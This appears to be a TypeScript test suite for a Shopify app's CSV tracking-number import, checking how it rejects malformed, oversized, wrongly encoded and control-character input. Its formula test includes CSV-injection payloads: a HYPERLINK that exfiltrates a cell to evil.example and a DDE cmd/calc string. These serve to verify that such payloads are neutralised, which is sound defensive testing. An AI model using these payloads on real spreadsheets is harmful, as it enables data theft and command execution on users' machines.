import iconv from "iconv-lite";
import { beforeAll, describe, expect, it } from "vitest";
import { inEveryLocale, storedText } from "~/i18n/messages";
import { commitImport } from "~/imports/commit.server";
import { failedRowsCsv } from "~/imports/csv-export";
import { previewImport } from "~/imports/preview.server";
import { failedRows, getImport, listImportRows } from "~/imports/store.server";
import { testPool } from "../support/database";
import {
  BULK_HEADER,
  csvFile,
  seedBulkOrders,
  tableCounts,
  yamatoNumber,
} from "./helpers";

// One test per bad input of issue 8, on a real Postgres. A file that cannot be read at
// all gets one clear error and writes nothing (no import, no rows, no shipments). Bad
// cells in a readable file make those rows errors in the stored preview (what the
// operator is shown); they never reach shipments.
const SHOP = "bad-input.myshopify.com";
const FIRST = 3000;

beforeAll(async () => {
  await testPool().query(`insert into shops (shop) values ($1)`, [SHOP]);
  await seedBulkOrders(testPool(), SHOP, {
    orders: 20,
    vendorsPerOrder: 2,
    firstOrderNumber: FIRST,
  });
});

const preview = (bytes: Uint8Array, fileName = "tracking.csv") =>
  previewImport(testPool(), SHOP, { fileName, bytes });

/**
 * Runs `work`, expects it to be refused with `code`, and nothing written anywhere.
 * Returns the refusal as the operator reads it, in both languages.
 */
async function expectRefusedWithoutWrites(
  code: string,
  work: () => ReturnType<typeof preview>,
) {
  const before = await tableCounts(testPool());
  const result = await work();
  expect(result).toMatchObject({ ok: false, code });
  if (result.ok) throw new Error("accepted");
  const text = inEveryLocale(result.message);
  expect(text.ja.length).toBeGreaterThan(10);
  expect(text.en.length).toBeGreaterThan(10);
  expect(await tableCounts(testPool())).toEqual(before);
  return text;
}

const row = (n: number, sku: string, tracking: string) => [
  `#${n}`,
  sku,
  "",
  tracking,
  "ヤマト運輸",
  "",
  "",
];

describe("bad input", () => {
  it("an empty file", async () => {
    const message = await expectRefusedWithoutWrites("empty", () =>
      preview(new Uint8Array()),
    );
    expect(message.ja).toContain("ファイルが空です");
    expect(message.en).toContain("The file is empty");
    // A BOM and blank lines are still empty.
    await expectRefusedWithoutWrites("empty", () =>
      preview(new Uint8Array([0xef, 0xbb, 0xbf, 0x0d, 0x0a])),
    );
  });

  it("a wrong encoding: a binary file, an Excel workbook, UTF-16, bytes no encoding reads", async () => {
    const random = new Uint8Array(4096).map((_, i) => (i * 7919) % 256);
    const binary = await expectRefusedWithoutWrites("binary", () =>
      preview(random, "data.bin"),
    );
    expect(binary.en).toContain("not a CSV file");

    const xlsx = new Uint8Array([
      0x50,
      0x4b,
      0x03,
      0x04,
      ...new TextEncoder().encode("[Content_Types].xml"),
    ]);
    const workbook = await expectRefusedWithoutWrites("binary", () =>
      preview(xlsx, "tracking.xlsx"),
    );
    expect(workbook.ja).toContain("Excel ブック (.xlsx)");
    expect(workbook.ja).toContain("CSV UTF-8 (コンマ区切り)");

    const utf16 = new Uint8Array([
      0xff,
      0xfe,
      ...Buffer.from("注文番号\t追跡番号\r\n", "utf16le"),
    ]);
    await expectRefusedWithoutWrites("utf16", () => preview(utf16));

    // EUC-JP-like bytes in line 3: neither UTF-8 nor CP932.
    const broken = new Uint8Array([
      ...new TextEncoder().encode(
        `${BULK_HEADER.join(",")}\r\n#${FIRST},SKU-0,,1,ヤマト,,\r\n`,
      ),
      0x85,
      0x40,
      0x0d,
      0x0a,
    ]);
    const undecodable = await expectRefusedWithoutWrites("undecodable", () =>
      preview(broken),
    );
    expect(undecodable.ja).toContain("3 行目");
    expect(undecodable.en).toContain("neither UTF-8 nor Shift_JIS (CP932)");
  });

  it("a 20 MB file: refused by size before it is parsed", async () => {
    // Binary garbage: if it were parsed first, the answer would be "not a CSV file".
    const huge = new Uint8Array(20 * 1024 * 1024).fill(0);
    const started = performance.now();
    const message = await expectRefusedWithoutWrites("too_large", () =>
      preview(huge),
    );
    expect(performance.now() - started).toBeLessThan(1_000);
    expect(message.ja).toContain(
      "ファイルが大きすぎます (20 MB)。上限は 10 MB です",
    );
    expect(message.en).toContain("The limit is 10 MB");
  });

  it("100,000 rows: refused at the limit while counting, nothing stored", async () => {
    const rows = Array.from({ length: 100_000 }, (_, i) =>
      row(FIRST + (i % 20), "SKU-0", yamatoNumber(i)),
    );
    const bytes = csvFile([BULK_HEADER, ...rows]);
    expect(bytes.length).toBeLessThan(10 * 1024 * 1024);
    const message = await expectRefusedWithoutWrites("too_many_rows", () =>
      preview(bytes),
    );
    expect(message.ja).toContain("50,000 行まで");
    expect(message.en).toContain("At most 50,000 rows");
  });

  it("formulas in cells: never evaluated, stored as text, not committed, neutralised on export", async () => {
    const formulas = [
      '=HYPERLINK("http://evil.example/?x="&A1,"click")',
      "@SUM(1+1)*cmd|' /C calc'!A0",
      "+1+1",
      "-2+3",
    ];
    const rows = [
      row(FIRST, "SKU-0", yamatoNumber(1)),
      [`#${FIRST + 1}`, formulas[0], "", yamatoNumber(2), "ヤマト運輸", "", ""],
      [`#${FIRST + 2}`, "SKU-0", "", formulas[1], "ヤマト運輸", "", ""],
      [formulas[2], "SKU-0", "", yamatoNumber(3), "ヤマト運輸", "", ""],
      [`#${FIRST + 3}`, "SKU-0", "", yamatoNumber(4), formulas[3], "", ""],
    ];
    const before = await tableCounts(testPool());
    const result = await preview(csvFile([BULK_HEADER, ...rows]));
    expect(result).toMatchObject({ ok: true, rowCount: 5, validCount: 1 });
    if (!result.ok) return;
    const { rows: stored } = await listImportRows(
      testPool(),
      SHOP,
      result.importId,
    );
    expect(stored.slice(1).map((r) => r.errors.map((e) => e.code))).toEqual([
      ["formula"],
      ["formula"],
      ["formula"],
      ["formula"],
    ]);
    expect(storedText("ja", stored[1].errors[0].message)).toContain("数式は実行されません");
    // Stored verbatim, as text.
    expect(stored[1].cells[1]).toBe(formulas[0]);
    expect(stored[2].cells[3]).toBe(formulas[1]);
    expect((await tableCounts(testPool())).shipments).toBe(before.shipments);

    const committed = await commitImport(testPool(), SHOP, result.importId);
    expect(committed).toMatchObject({ ok: true, committed: 1 });
    const leaked = await testPool().query(
      `select count(*)::int as n from shipments
        where carrier ~ '^[=+@-]' or exists (select 1 from unnest(tracking_numbers) t where t ~ '^[=+@-]')`,
    );
    expect(leaked.rows[0].n).toBe(0);

    const summary = await getImport(testPool(), SHOP, result.importId);
    const csv = failedRowsCsv(
      summary!.columns,
      await failedRows(testPool(), SHOP, result.importId),
      "en",
    );
    for (const formula of formulas) {
      expect(csv).not.toMatch(
        new RegExp(
          `(^|[,\\n])"?${formula.slice(0, 3).replace(/[+*|()]/g, "\\$&")}`,
        ),
      );
    }
    expect(csv).toContain(
      `"'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")"`,
    );
    expect(csv).toContain("'@SUM(1+1)");
    expect(csv).toContain("'+1+1");
    expect(csv).toContain("'-2+3");
  });

  it("control characters: the row is refused with the column and code point", async () => {
    const rows = [
      row(FIRST + 4, "SKU-0", yamatoNumber(10)),
      [
        `#${FIRST + 5}`,
        "SKU\u00070",
        "",
        yamatoNumber(11),
        "ヤマト運輸",
        "",
        "",
      ],
      [
        `#${FIRST + 6}`,
        "SKU-0",
        "",
        `${yamatoNumber(12)}\u001b[31m`,
        "ヤマト運輸",
        "",
        "",
      ],
      [
        `#${FIRST + 7}`,
        "SKU-0",
        "",
        yamatoNumber(13),
        "ヤマト\u0085運輸",
        "",
        "",
      ],
    ];
    const result = await preview(csvFile([BULK_HEADER, ...rows]));
    expect(result).toMatchObject({ ok: true, rowCount: 4, validCount: 1 });
    if (!result.ok) return;
    const { rows: stored } = await listImportRows(
      testPool(),
      SHOP,
      result.importId,
    );
    expect(stored.map((r) => r.errors.map((e) => e.code))).toEqual([
      [],
      ["control_character"],
      ["control_character"],
      ["control_character"],
    ]);
    expect(storedText("ja", stored[1].errors[0].message)).toBe(
      "「SKU」に制御文字 (U+0007) が含まれています。削除してから取り込み直してください。",
    );
    expect(storedText("en", stored[2].errors[0].message)).toContain(
      '"Tracking number" contains a control character (U+001B)',
    );
    expect(storedText("en", stored[3].errors[0].message)).toContain("(U+0085)");
    const committed = await commitImport(testPool(), SHOP, result.importId);
    expect(committed).toMatchObject({ ok: true, committed: 1 });
  });

  it("mixed line endings: \\r\\n, \\n and \\r in one file all parse, in CP932 too", async () => {
    const lines = [
      BULK_HEADER.join(","),
      row(FIRST + 8, "SKU-0", yamatoNumber(20)).join(","),
      row(FIRST + 9, "SKU-0", yamatoNumber(21)).join(","),
      row(FIRST + 10, "SKU-0", yamatoNumber(22)).join(","),
      // A quoted cell with a line break inside: two tracking numbers of one parcel.
      [
        `#${FIRST + 11}`,
        "SKU-0",
        "",
        `"${yamatoNumber(23)}\r\n${yamatoNumber(24)}"`,
        "ヤマト運輸",
        "",
        "",
      ].join(","),
      row(FIRST + 12, "SKU-0", yamatoNumber(25)).join(","),
    ];
    const text = `${lines[0]}\r\n${lines[1]}\n${lines[2]}\r${lines[3]}\r\n${lines[4]}\n${lines[5]}`;
    for (const bytes of [
      new TextEncoder().encode(text),
      new Uint8Array(iconv.encode(text, "cp932")),
    ]) {
      const result = await preview(bytes);
      expect(result).toMatchObject({ ok: true, rowCount: 5, validCount: 5 });
      if (!result.ok) return;
      const { rows: stored } = await listImportRows(
        testPool(),
        SHOP,
        result.importId,
      );
      expect(stored.map((r) => r.rowNumber)).toEqual([2, 3, 4, 5, 6]);
      expect(stored.map((r) => r.orderName)).toEqual(
        [8, 9, 10, 11, 12].map((d) => `#${FIRST + d}`),
      );
      expect(stored[3].trackingNumbers).toEqual([
        yamatoNumber(23),
        yamatoNumber(24),
      ]);
    }
  });

  it("a header-only file", async () => {
    const message = await expectRefusedWithoutWrites("header_only", () =>
      preview(csvFile([BULK_HEADER])),
    );
    expect(message.ja).toContain("データ行がありません");
    expect(message.en).toContain("no data rows");
    await expectRefusedWithoutWrites("header_only", () =>
      preview(csvFile([BULK_HEADER, ["", "", "", "", "", "", ""]])),
    );
  });

  it("a file without the needed columns, and a malformed one", async () => {
    const missing = await expectRefusedWithoutWrites("missing_columns", () =>
      preview(
        csvFile([
          ["品名", "個数"],
          ["皿", "1"],
        ]),
      ),
    );
    expect(missing.ja).toContain(
      "必要な列がありません: 注文番号 または 注文ID",
    );
    const malformed = await expectRefusedWithoutWrites("malformed", () =>
      preview(
        new TextEncoder().encode(
          `${BULK_HEADER.join(",")}\n#${FIRST},"SKU-0,,1,ヤマト,,\n`,
        ),
      ),
    );
    expect(malformed.ja).toContain("CSV の形式が正しくありません");
  });
});
